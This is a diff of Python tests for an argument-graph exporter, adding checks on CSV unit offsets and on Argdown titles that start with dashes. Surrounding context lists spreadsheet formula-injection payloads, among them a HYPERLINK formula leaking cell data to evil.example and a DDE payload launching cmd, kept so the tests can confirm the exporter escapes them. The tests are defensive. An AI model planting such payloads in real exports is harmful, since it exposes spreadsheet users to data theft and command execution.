@@ -126,6 +126,18 @@ def test_export_csv_has_units_and_relations(kialo_settings: Settings) -> None:
     assert all(r["source"] in units and r["target"] in units for r in rows if r["record"] == "relation")
 
 
+def test_export_csv_gives_each_unit_its_offsets_into_its_post(kialo_settings: Settings) -> None:
+    """A researcher aligns units with other annotation (brat spans) by their offsets, as in the JSON export."""
+    data = api.graph_data(settings=kialo_settings)
+    posts = {p.id: p.text for p in data.posts}
+    rows = [r for r in csv.DictReader(io.StringIO(_text(kialo_settings, "csv"))) if r["record"] == "unit"]
+    assert len(rows) == len(data.units) == 6
+    for row in rows:
+        assert posts[row["post"]][int(row["start"]):int(row["end"])] == row["text"]
+    assert all(r["start"] == r["end"] == "" for r in csv.DictReader(io.StringIO(_text(kialo_settings, "csv")))
+               if r["record"] == "relation")
+
+
 #: Cells a spreadsheet would run as formulas (OWASP "CSV injection"): each must come back as text, ``'`` first.
 FORMULA_CELLS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                  "\t=1+1", "\r=1+1"]
@@ -305,6 +317,26 @@ def test_export_argdown_parses_with_the_argdown_tools(kialo_settings: Settings, 
     assert sorted(texts) == sorted(HOSTILE_TEXTS)
     kinds = sorted(r["relationType"] for r in parsed["relations"])
     assert kinds == ["attack", "support", "support"]
+
+
+def test_export_argdown_titles_never_open_with_a_dash(tmp_path: Path) -> None:
+    """Argdown takes "[-x]" and "<-x>" for no reference: units opening with a dash (a command line option, a
+    list written with dashes) made untitled statements and relations of their own in the provenance lines."""
+    graph = nx.DiGraph(threads={"t": "Dashes"})
+    graph.add_node("c", kind="claim", text="Deleting the root folder needs a flag")
+    graph.add_node("a", kind="claim", text="--no-preserve-root is that flag")
+    graph.add_node("p", kind="premise", text="-u stops the script at an unset variable")
+    graph.add_node("d", kind="claim", text="- - -")
+    graph.add_edge("a", "c", id="r1", kind="attack", confidence=0.5, model="m", reason="r")
+    graph.add_edge("p", "a", id="r2", kind="support", confidence=0.5, model="m", reason="r")
+    graph.add_edge("d", "c", id="r3", kind="support", confidence=0.5, model="m", reason="r")
+    text = to_argdown(graph)
+    titles = re.findall(r"^\s*(?:<[+-] )?[\[<]([^\]>]*)[\]>]", text, flags=re.MULTILINE)
+    assert titles and not any(title.startswith("-") for title in titles), titles
+    parsed = _argdown_json(text, tmp_path)
+    assert sorted((*parsed["statements"], *parsed["arguments"])) == sorted(
+        ["Deleting the root folder needs a", "no-preserve-root is that flag", "u stops the script at an", "Unit"])
+    assert len(parsed["relations"]) == 3
 
 
 def _parallel_data(settings: Settings) -> GraphData:
